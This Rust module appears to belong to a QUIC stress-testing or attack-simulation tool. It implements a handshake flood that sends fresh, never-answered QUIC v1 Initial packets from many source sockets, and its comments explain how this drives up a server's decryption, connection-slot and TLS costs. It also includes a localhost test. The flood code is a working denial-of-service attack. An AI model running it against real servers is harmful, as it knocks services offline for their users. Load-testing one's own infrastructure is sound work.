//! The handshake flood: real QUIC v1 Initials, each the first packet of a
//! fresh client connection, from many sources, never answered.
//!
//! Every Initial is made by quinn-proto's client `connect` (a new random
//! destination connection id, so new Initial keys, and a new TLS
//! ClientHello with a new key share) and its first `poll_transmit`; the
//! connection's state is then dropped at once, and the endpoint told it is
//! drained, so the attacker's memory stays flat however long it runs. A
//! replayed Initial would be cheaper to make but cheaper to refuse too (the
//! server routes it to the connection the first copy made and drops it as a
//! duplicate); a fresh one costs the server what a real newcomer costs it:
//! Initial decryption, a connection slot, its TLS reply and signature, or,
//! with Retry on, one stateless Retry packet.
//!
//! The gateway's answers (its Initial and Handshake flight, or a Retry)
//! are never read: the source sockets' small receive buffers drop them.

use std::net::UdpSocket;
use std::sync::Arc;
use std::time::{Duration, Instant};

use quinn_proto::{EndpointConfig, EndpointEvent};

use super::pace::Pacer;
use super::{AttackConfig, AttackError, Tally, tls};

/// Floods `cfg.server` with Initials from `sockets`, one after the other,
/// until the duration is over.
pub fn flood(cfg: &AttackConfig, sockets: &[UdpSocket]) -> Result<Tally, AttackError> {
    let client = tls::client_config(Duration::from_secs(30), None)?;
    let mut endpoint =
        quinn_proto::Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
    let mut buf = Vec::with_capacity(2048);
    let start = Instant::now();
    let mut pacer = Pacer::new(start, cfg.duration, cfg.rate_per_s);
    let mut tally = Tally::default();
    let mut next = 0usize;
    while let Some(due) = pacer.burst(Instant::now()) {
        let now = Instant::now();
        for _ in 0..due {
            let (handle, mut conn) = endpoint
                .connect(now, client.clone(), cfg.server, &cfg.server_name)
                .map_err(|e| AttackError::Quic(e.to_string()))?;
            buf.clear();
            let transmit = conn.poll_transmit(now, 1, &mut buf);
            // The connection goes at once: only its first datagram was wanted.
            endpoint.handle_event(handle, EndpointEvent::drained());
            let Some(transmit) = transmit else {
                continue;
            };
            let socket = &sockets[next % sockets.len()];
            next = next.wrapping_add(1);
            match socket.send(&buf[..transmit.size]) {
                Ok(n) => {
                    tally.sent += 1;
                    tally.bytes += n as u64;
                }
                Err(_) => tally.errors += 1,
            }
        }
        pacer.wait();
    }
    tally.wall = start.elapsed();
    Ok(tally)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::{Attack, sources};

    #[test]
    fn every_initial_is_a_fresh_padded_v1_initial() {
        let target = UdpSocket::bind("127.0.0.1:0").unwrap();
        target
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut cfg = AttackConfig::new(Attack::HandshakeFlood, target.local_addr().unwrap());
        cfg.duration = Duration::from_millis(100);
        cfg.rate_per_s = 200;
        let sockets = sources::bind(cfg.server, 2, 1).unwrap();
        let tally = flood(&cfg, &sockets).unwrap();
        assert!(tally.sent >= 10, "{tally:?}");
        let mut dcids = std::collections::HashSet::new();
        let mut buf = [0u8; 2048];
        for _ in 0..tally.sent {
            let (n, _) = target.recv_from(&mut buf).unwrap();
            assert!(n >= 1200, "an Initial is padded to 1200 bytes: {n}");
            // Long header, type Initial, version 1.
            assert_eq!(buf[0] & 0xf0, 0xc0);
            assert_eq!(buf[1..5], [0, 0, 0, 1]);
            let len = usize::from(buf[5]);
            dcids.insert(buf[6..6 + len].to_vec());
        }
        assert_eq!(dcids.len() as u64, tally.sent, "no Initial is a replay");
    }
}
